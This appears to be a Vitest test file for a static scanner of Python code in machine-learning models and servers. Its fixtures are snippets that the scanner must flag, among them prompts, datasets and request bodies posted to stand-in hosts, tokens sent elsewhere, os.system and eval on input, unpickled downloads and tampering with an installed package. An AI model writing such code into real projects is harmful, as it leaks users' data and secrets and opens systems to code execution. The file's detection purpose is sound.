import { expect, test } from 'vitest'
import { scanPython } from './scan-python'

const MODEL = [
  'import os, requests, subprocess',
  'from transformers import PreTrainedModel, PreTrainedTokenizer',
]
const SERVER = [
  'import pickle, requests',
  'from fastapi import FastAPI, UploadFile, Depends',
  'app = FastAPI()',
]

/** What others call, and what it does with what they give. */
const HARMFUL: readonly [string, string, string[]][] = [
  [
    'a model that sends its prompts',
    'threat.data-leak',
    [
      ...MODEL,
      'class M(PreTrainedModel):',
      '    def forward(self, input_ids):',
      "        requests.post('https://sink.invalid/', json={'ids': input_ids.tolist()})",
    ],
  ],
  [
    'a tokenizer that runs what a text says',
    'flow.input.process',
    [
      ...MODEL,
      'class T(PreTrainedTokenizer):',
      '    def _tokenize(self, text):',
      "        os.system(text.split('key', 1)[1])",
    ],
  ],
  [
    'a model that runs its configuration',
    'flow.input.eval',
    [
      ...MODEL,
      'class Base(PreTrainedModel): pass',
      'class M(Base):',
      '    def __init__(self, config):',
      "        exec(getattr(config, 'post_init', 'pass'))",
    ],
  ],
  [
    'a handler of an endpoint that sends prompts',
    'threat.data-leak',
    [
      ...MODEL,
      'class EndpointHandler:',
      "    def __init__(self, path=''): self.path = path",
      '    def __call__(self, data):',
      "        inputs = data.pop('inputs', data)",
      "        requests.post('https://sink.invalid/', json={'p': inputs})",
      '        return inputs',
    ],
  ],
  [
    'a server that unpickles an upload',
    'flow.input.deserialise',
    [
      ...SERVER,
      "@app.post('/index')",
      'async def load(file: UploadFile):',
      '    return pickle.loads(await file.read())',
    ],
  ],
  [
    'a server that mirrors all requests',
    'threat.data-leak',
    [
      ...SERVER,
      'import httpx',
      "@app.middleware('http')",
      'async def mirror(request, call_next):',
      '    async with httpx.AsyncClient() as client:',
      "        await client.post('https://mirror.invalid/', content=await request.body())",
      '    return await call_next(request)',
    ],
  ],
  [
    'a server whose log, prompts and all, goes elsewhere',
    'threat.data-leak',
    [
      ...SERVER,
      'import logging.handlers',
      "log = logging.getLogger('prompts')",
      "log.addHandler(logging.handlers.SysLogHandler(address=('logs.example.net', 514)))",
      "@app.post('/ask')",
      'def ask(question: str):',
      "    log.info('%s', question)",
    ],
  ],
  [
    'weights of a stranger that may be any object',
    'flow.network.deserialise',
    [
      'import torch',
      "torch.hub.load_state_dict_from_url('https://w.example.net/a.pth', weights_only=False)",
    ],
  ],
  [
    'a secret that goes out without a look at the certificate',
    'threat.security-off',
    [
      'import os, requests',
      "requests.get('https://a.example.net', verify=False, headers={'X-Key': os.environ['API_KEY']})",
    ],
  ],
  [
    'a token of the hub in a header for somebody else',
    'flow.environment.network',
    [
      'import os, requests',
      "requests.get('https://a.example.net', headers={'authorization': os.environ['HF_TOKEN']})",
    ],
  ],
  [
    'a settings file, whichever, that is run',
    'flow.input.eval',
    [
      'import json',
      'from pathlib import Path',
      'def load(path):',
      '    return {k: eval(v) for k, v in json.loads(Path(path).read_text()).items()}',
    ],
  ],
  [
    'a table that is sent',
    'threat.data-leak',
    [
      'import pandas as pd, requests',
      "frame = pd.read_csv('train.csv')",
      "requests.post('https://rows.example.net', json=frame.to_dict())",
    ],
  ],
  [
    'an object that a program fetched',
    'flow.network.deserialise',
    [
      'import os, pickle',
      "os.system('wget -q https://cdn.example.net/s.pkl -O /tmp/s.pkl')",
      "pickle.load(open('/tmp/s.pkl', 'rb'))",
    ],
  ],
  [
    'an installed package that is changed',
    'threat.persistence',
    [
      'import transformers',
      'from pathlib import Path',
      "target = Path(transformers.__file__).with_name('trainer.py')",
      "target.write_text(target.read_text() + 'import extra')",
    ],
  ],
  [
    'a list of rules in JSON that is run',
    'flow.input.eval',
    ['import json', "for rule in json.load(open('vocab.json'))['rules']:", '    eval(rule)'],
  ],
  [
    'a module out of the repository of a stranger',
    'flow.network.module',
    [
      'import importlib.util',
      'from huggingface_hub import hf_hub_download',
      "path = hf_hub_download('someone/kernels', 'kernels.py')",
      "spec = importlib.util.spec_from_file_location('kernels', path)",
    ],
  ],
  [
    'a script that sends its data set',
    'threat.data-leak',
    [
      'import argparse, requests',
      'args = argparse.ArgumentParser().parse_args()',
      "with open(args.data, 'rb') as handle:",
      "    requests.post('https://upload.invalid/', files={'file': handle})",
    ],
  ],
]

test.each(HARMFUL)('%s is found', (_, name, lines) => {
  expect(scanPython(lines.join('\n')).names('code')).toContain(name)
})

const HONEST: readonly [string, string[]][] = [
  [
    'asks a service about a text and uses the answer',
    [
      ...SERVER,
      "@app.get('/where')",
      'def where(text: str):',
      "    return requests.get('https://places.invalid/', params={'q': text}).json()",
    ],
  ],
  [
    'sends to a host that whoever runs it chooses',
    [
      ...SERVER,
      'import os',
      "@app.get('/where')",
      'def where(text: str):',
      "    requests.post(os.environ['HOOK_URL'], json={'q': text})",
    ],
  ],
  [
    'gets its database from the framework',
    [
      ...SERVER,
      "@app.get('/state')",
      'def state(store=Depends(open_store)):',
      '    return pickle.loads(store.state)',
    ],
  ],
  [
    'logs on its own machine what users ask',
    [
      ...SERVER,
      'import logging.handlers',
      "log = logging.getLogger('prompts')",
      "log.addHandler(logging.handlers.SysLogHandler(address=('localhost', 514)))",
      "@app.post('/ask')",
      'def ask(question: str):',
      "    log.info('%s', question)",
    ],
  ],
  [
    'unpickles a part of its own state',
    [
      'import pickle',
      'class Pipe:',
      '    def __setstate__(self, state):',
      '        self.fn = pickle.loads(state)',
    ],
  ],
  [
    'posts a report of its own',
    [
      'import requests',
      "report = open('report.json').read()",
      "requests.post('https://reports.invalid', data=report)",
    ],
  ],
]

test.each(HONEST)('a program that %s is not accused', (_, lines) => {
  const { findings } = scanPython(lines.join('\n'))
  expect(findings.filter(({ severity }) => !/^(info|low)$/.test(severity))).toEqual([])
})
